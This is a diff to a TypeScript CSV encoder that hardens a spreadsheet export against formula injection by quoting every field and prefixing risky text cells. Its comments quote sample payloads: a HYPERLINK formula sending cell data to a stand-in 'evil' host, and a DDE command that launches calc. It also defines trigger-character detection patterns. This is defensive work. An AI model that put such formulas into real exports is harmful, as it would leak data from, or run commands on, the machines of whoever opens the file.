@@ -1,28 +1,37 @@
 /**
- * The CSV encoder shared by the app's export and the CLI (issue 7, DESIGN.md "CSV export").
+ * The CSV encoder shared by the app's export and the CLI (DESIGN.md "CSV export").
  *
  * Output format (RFC 4180, with the options of {@link CsvOptions}):
  *  - fields are separated by the chosen delimiter (`comma` `,`, `semicolon` `;`, `tab` U+0009);
  *  - records end with CRLF, the last one included;
- *  - a field is quoted (`"…"`) exactly when it holds the delimiter, a double quote, CR or LF;
- *    double quotes inside a quoted field are doubled;
+ *  - **every** field is quoted (`"…"`), text, numbers, booleans and empty cells (`""`) alike, and
+ *    double quotes inside are doubled. A spreadsheet set to another list separator than the file's
+ *    (a `;` locale opening a comma file) then still finds every separator character, line break
+ *    and formula text inside quotes, and cannot split a cell into one that starts a formula. Only
+ *    the quoting decides: a reader that honours quotes sees the same cells whatever the delimiter;
  *  - with `bom`, the file starts with the UTF-8 byte-order mark (EF BB BF) so Excel reads UTF-8.
  *
- * Formula-injection neutralisation (OWASP "CSV Injection"), on by default. The exact rule:
- *  - a **text** cell whose first character is `=`, `+`, `-`, `@`, TAB (U+0009), CR (U+000D) or
- *    NUL (U+0000) gets a single quote `'` put in front of it, so a spreadsheet shows the text instead
- *    of evaluating it as a formula (or DDE command). The quote is added before the RFC 4180 quoting,
- *    so `=1,2` with a comma delimiter becomes `"'=1,2"`.
- *  - **numbers** (cells that come out of SQLite as INTEGER or REAL, e.g. an order's status code or
- *    a recipient count) are never changed: `-5` stays `-5`, because a spreadsheet reads it as the
- *    number it is and a number cannot carry a formula. A *text* cell holding `-5` (a phone number
- *    field, a zip typed by a person) is neutralised to `'-5`: the encoder cannot tell it from a
- *    payload such as `-2+3+cmd|' /C calc'!A0`, and text stays text in the spreadsheet either way.
- *  - Why it exists (shown to people who turn it off): a cell starting with one of these characters
- *    is run as a formula when the file is opened in Excel, LibreOffice or Google Sheets; a contact
- *    whose name is `=HYPERLINK("http://evil/?"&A1,"Click")` could leak data or run commands on the
- *    machine of whoever opens the export. Turn it off only when the file goes to a program, not a
- *    person, and the exact cell text matters.
+ * Formula-injection neutralisation (OWASP "CSV Injection"), on by default. The exact rule: a
+ * **text** cell gets a single quote `'` put in front of it when {@link needsNeutralizing} — its
+ * first character after any leading whitespace is
+ *  - a formula starter: `=`, `+`, `-`, `@`, their fullwidth forms `＝` `＋` `－` `＠`, or NUL
+ *    (U+0000), or its leading whitespace holds TAB (U+0009) or CR (U+000D), which spreadsheets
+ *    strip or split on before looking for a formula; or
+ *  - a double quote, `,` or `;`: characters that can end the quoted cell early in a reader set to
+ *    another separator (LibreOffice ends a quoted field at a quote followed by blanks and its
+ *    separator), letting the rest of the cell start a cell of its own.
+ * The quote is added before the RFC 4180 quoting, so `=1,2` becomes `"'=1,2"`; the rest of the
+ * text is unchanged. **Numbers** (cells that come out of SQLite as INTEGER or REAL, e.g. an order's
+ * status code or a recipient count) are never changed: `-5` stays `"-5"`, because a spreadsheet
+ * reads it as the number it is and a number cannot carry a formula. A *text* cell holding `-5` (a
+ * phone number field) is neutralised to `'-5`: the encoder cannot tell it from a payload such as
+ * `-2+3+cmd|' /C calc'!A0`, and text stays text in the spreadsheet either way.
+ *
+ * Why it exists (shown to people who turn it off): a cell starting with one of these characters is
+ * run as a formula when the file is opened in Excel, LibreOffice or Google Sheets; a contact whose
+ * name is `=HYPERLINK("http://evil/?"&A1,"Click")` could leak data or run commands on the machine
+ * of whoever opens the export. Turn it off only when the file goes to a program, not a person, and
+ * the exact cell text matters. Quoting stays on either way.
  *
  * Speed: each record is encoded into one reused 1 MiB buffer, written with one `writeSync` when
  * full, so a million-row export makes a few hundred syscalls and keeps no text around.
@@ -45,81 +54,86 @@ export const CSV_LINE_END = '\r\n';
 /** Options most people want: comma, no BOM, neutralisation on. */
 export const DEFAULT_CSV_OPTIONS: CsvOptions = { delimiter: 'comma', bom: false, neutralizeFormulas: true };
 
-/** Characters that make a text cell a formula in common spreadsheets (OWASP): = + - @ TAB CR NUL. */
-export const FORMULA_TRIGGER_CHARS = ['=', '+', '-', '@', '\t', '\r', '\0'] as const;
+/**
+ * Characters that make a text cell a formula in common spreadsheets when it starts with one after
+ * any leading whitespace (OWASP, plus the fullwidth forms some spreadsheets accept): = + - @ ＝ ＋ － ＠
+ * TAB CR NUL.
+ */
+export const FORMULA_TRIGGER_CHARS = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\t', '\r', '\0'] as const;
+
+/** Characters that can end a quoted cell early in a reader set to another separator: `"` `,` `;` (TAB is a trigger already). */
+export const CELL_BREAKING_CHARS = ['"', ',', ';'] as const;
+
+// `\s*` backtracks, so a TAB or CR anywhere in the leading whitespace matches too.
+const FORMULA_START = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\0]/;
+const NEUTRALIZE = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\t\r\0",;]/;
+
+/** True for the first character of a text cell that can never need neutralising (no regex needed). */
+function plainStart(c: number): boolean {
+  // Printable ASCII other than space " + , - ; = @ (the triggers, and what can break a cell).
+  return c > 32 && c < 127 && c !== 34 && c !== 43 && c !== 44 && c !== 45 && c !== 59 && c !== 61 && c !== 64;
+}
 
 const utf8 = new TextDecoder('utf-8');
 
 /**
- * True when a text cell would be read as a formula by a spreadsheet: its first character is one of
- * {@link FORMULA_TRIGGER_CHARS}.
+ * True when a text cell would be read as a formula by a spreadsheet: after any leading whitespace
+ * its first character is one of {@link FORMULA_TRIGGER_CHARS} (so a TAB or CR in the leading
+ * whitespace counts too).
  */
 export function startsLikeFormula(text: string): boolean {
-  if (text.length === 0) return false;
-  const c = text.charCodeAt(0);
-  return c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0;
+  return text.length > 0 && !plainStart(text.charCodeAt(0)) && FORMULA_START.test(text);
 }
 
 /**
- * Neutralises one text cell: puts `'` in front when {@link startsLikeFormula}; otherwise returns it unchanged.
+ * True when a text cell is neutralised: it {@link startsLikeFormula}, or after any leading
+ * whitespace it starts with one of {@link CELL_BREAKING_CHARS}.
+ */
+export function needsNeutralizing(text: string): boolean {
+  return text.length > 0 && !plainStart(text.charCodeAt(0)) && NEUTRALIZE.test(text);
+}
+
+/**
+ * Neutralises one text cell: puts `'` in front when {@link needsNeutralizing}; otherwise returns it unchanged.
  * @param text the cell text (not yet RFC 4180 quoted)
  */
 export function neutralizeFormula(text: string): string {
-  return startsLikeFormula(text) ? `'${text}` : text;
-}
-
-/** Regex matching any character that forces quoting for the given delimiter. */
-function quoteTrigger(delimiter: string): RegExp {
-  switch (delimiter) {
-    case ',':
-      return /[",\r\n]/;
-    case ';':
-      return /[";\r\n]/;
-    case '\t':
-      return /["\t\r\n]/;
-    default:
-      throw new Error(`unsupported CSV delimiter ${JSON.stringify(delimiter)}`);
-  }
+  return needsNeutralizing(text) ? `'${text}` : text;
 }
 
 /**
- * Encodes one cell of a row (no delimiter, no line end).
+ * Encodes one cell of a row (no delimiter, no line end): always quoted.
  * @param value the cell; text, number, bigint, boolean (`true`/`false`), bytes (read as UTF-8) or null (empty)
- * @param options the CSV options (delimiter and neutralisation matter here)
+ * @param options the CSV options (neutralisation matters here; the delimiter does not)
  * @returns the field as it appears in the file
  */
 export function encodeCsvField(value: CsvValue, options: CsvOptions): string {
-  const delimiter = CSV_DELIMITERS[options.delimiter];
-  return makeFieldEncoder(delimiter, options.neutralizeFormulas)(value);
+  return makeFieldEncoder(options.neutralizeFormulas)(value);
 }
 
-function makeFieldEncoder(delimiter: string, neutralize: boolean): (value: CsvValue) => string {
-  const mustQuote = quoteTrigger(delimiter);
+function makeFieldEncoder(neutralize: boolean): (value: CsvValue) => string {
   return (value: CsvValue): string => {
     let text: string;
     if (typeof value === 'string') {
       text = value;
     } else if (value === null || value === undefined) {
-      return '';
+      return '""';
     } else if (typeof value === 'number' || typeof value === 'bigint') {
-      // Numbers never contain a delimiter, quote or line break, and are never neutralised.
-      return String(value);
+      // Numbers never contain a quote and are never neutralised.
+      return `"${String(value)}"`;
     } else if (typeof value === 'boolean') {
-      return value ? 'true' : 'false';
+      return value ? '"true"' : '"false"';
     } else {
       text = utf8.decode(value);
     }
-    if (neutralize && text.length > 0) {
-      const c = text.charCodeAt(0);
-      if (c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0) text = `'${text}`;
-    }
-    return mustQuote.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
+    if (neutralize && needsNeutralizing(text)) text = `'${text}`;
+    return `"${text.replaceAll('"', '""')}"`;
   };
 }
 
 /**
  * Makes a function that encodes one record (the fields joined by the delimiter, ending in CRLF).
- * Build it once per export: it keeps the delimiter's regex and the options in a closure.
+ * Build it once per export: it keeps the delimiter and the options in a closure.
  *
  * For speed the returned function may overwrite cells of the array it is given with their encoded
  * text (rows from better-sqlite3's `raw()` are fresh arrays, so the export loop passes them as they
@@ -127,27 +141,10 @@ function makeFieldEncoder(delimiter: string, neutralize: boolean): (value: CsvVa
  */
 export function createCsvRowEncoder(options: CsvOptions): (values: CsvValue[]) => string {
   const delimiter = CSV_DELIMITERS[options.delimiter];
-  const mustQuote = quoteTrigger(delimiter);
-  const neutralize = options.neutralizeFormulas;
+  const field = makeFieldEncoder(options.neutralizeFormulas);
   return (values: CsvValue[]): string => {
     const n = values.length;
-    for (let i = 0; i < n; i++) {
-      const v = values[i];
-      if (typeof v === 'string') {
-        if (neutralize) {
-          const c = v.charCodeAt(0); // NaN for ''
-          if (c === 61 || c === 43 || c === 45 || c === 64 || c === 9 || c === 13 || c === 0) {
-            const s = `'${v}`;
-            values[i] = mustQuote.test(s) ? `"${s.replaceAll('"', '""')}"` : s;
-            continue;
-          }
-        }
-        if (mustQuote.test(v)) values[i] = `"${v.replaceAll('"', '""')}"`;
-      } else if (typeof v === 'object' && v !== null) {
-        values[i] = encodeCsvField(v, options);
-      }
-      // null/undefined join as '', numbers and bigints as String(v), booleans as true/false.
-    }
+    for (let i = 0; i < n; i++) values[i] = field(values[i]);
     return values.join(delimiter) + CSV_LINE_END;
   };
 }
@@ -178,11 +175,11 @@ export const DEFAULT_CHUNK_BYTES = 1 << 20;
  * which is synchronous too.
  *
  * The output is byte for byte that of {@link createCsvRowEncoder} (tests compare both, and parse it
- * back with csv-parse). The common cell, ASCII text that needs no quoting, is copied into the
- * buffer in one pass without building the record as a string; anything else (non-ASCII, a cell to
- * quote or neutralise, bytes) is encoded as the string encoder does and written as UTF-8. This is
- * what brings an export of 1,000,000 contacts within the issue 8 target of 1.3 × the `sqlite3`
- * shell (docs/benchmarks.md).
+ * back with csv-parse). The common cell, ASCII text or a number, is copied into the buffer between
+ * its quotes in one pass (doubling any quote) without building the record as a string; anything
+ * else (non-ASCII text, booleans, bigints, bytes) is encoded as the string encoder does and written
+ * as UTF-8. This keeps an export of 1,000,000 contacts near the `sqlite3` shell's own CSV output
+ * (docs/benchmarks.md).
  *
  * Call {@link writeRow} per record and {@link flush} at the end; the writer does not own `fd`.
  */
@@ -205,9 +202,8 @@ export class CsvFileWriter {
   constructor(fd: number, options: CsvOptions, chunkBytes: number = DEFAULT_CHUNK_BYTES) {
     this.fd = fd;
     this.#encodeRow = createCsvRowEncoder(options);
-    const delimiter = CSV_DELIMITERS[options.delimiter];
-    this.#encodeField = makeFieldEncoder(delimiter, options.neutralizeFormulas);
-    this.#delimiter = delimiter.charCodeAt(0);
+    this.#encodeField = makeFieldEncoder(options.neutralizeFormulas);
+    this.#delimiter = CSV_DELIMITERS[options.delimiter].charCodeAt(0);
     this.#neutralize = options.neutralizeFormulas;
     this.#buffer = Buffer.allocUnsafe(Math.max(16, chunkBytes));
     if (options.bom) this.#append(UTF8_BOM);
@@ -217,13 +213,15 @@ export class CsvFileWriter {
   writeRow(values: CsvValue[]): void {
     const n = values.length;
     // Most UTF-8 bytes the record can take: 3 per UTF-16 code unit (a doubled quote takes 2), 3
-    // more per text cell (the quotes and a neutralising '), 24 per number, delimiters and CRLF.
+    // more per text cell (the quotes and a neutralising '), 26 per number, 2 per empty cell,
+    // delimiters and CRLF.
     let most = n + 2;
     for (let i = 0; i < n; i++) {
       const v = values[i];
       if (typeof v === 'string') most += 3 * v.length + 3;
-      else if (typeof v === 'number') most += 24;
-      else if (v !== null && v !== undefined) {
+      else if (typeof v === 'number') most += 26;
+      else if (v === null || v === undefined) most += 2;
+      else {
         // booleans, bigints and bytes: rare; the string encoder handles them
         this.#append(this.#encodeRow(values));
         return;
@@ -242,7 +240,11 @@ export class CsvFileWriter {
       if (i > 0) buf[pos++] = this.#delimiter;
       const v = values[i];
       if (typeof v === 'string') pos = this.#writeText(v, pos);
-      else if (typeof v === 'number') pos = writeAscii(buf, String(v), pos);
+      else {
+        buf[pos++] = 34;
+        if (typeof v === 'number') pos = writeAscii(buf, String(v), pos);
+        buf[pos++] = 34;
+      }
     }
     buf[pos++] = 13;
     buf[pos++] = 10;
@@ -256,20 +258,22 @@ export class CsvFileWriter {
     this.#used = 0;
   }
 
-  /** One text cell at `pos` (the buffer has room for it); returns the position after it. */
+  /** One text cell at `pos`, quoted (the buffer has room for it); returns the position after it. */
   #writeText(v: string, pos: number): number {
     const buf = this.#buffer;
     const start = pos;
-    if (this.#neutralize && startsLikeFormula(v)) buf[pos++] = 39;
-    // Copy while checking; the first character that is not plain ASCII (or has to be quoted)
-    // sends the cell to the field encoder, whose text is written again from `start`.
-    const d = this.#delimiter;
+    buf[pos++] = 34;
+    if (this.#neutralize && needsNeutralizing(v)) buf[pos++] = 39;
+    // Copy while checking; the first character that is not plain ASCII sends the cell to the
+    // field encoder, whose text is written again from `start`.
     const len = v.length;
     for (let i = 0; i < len; i++) {
       const c = v.charCodeAt(i);
-      if (c >= 128 || c === 34 || c === d || c === 13 || c === 10) return start + buf.write(this.#encodeField(v), start, 'utf8');
+      if (c >= 128) return start + buf.write(this.#encodeField(v), start, 'utf8');
       buf[pos++] = c;
+      if (c === 34) buf[pos++] = 34;
     }
+    buf[pos++] = 34;
     return pos;
   }
 
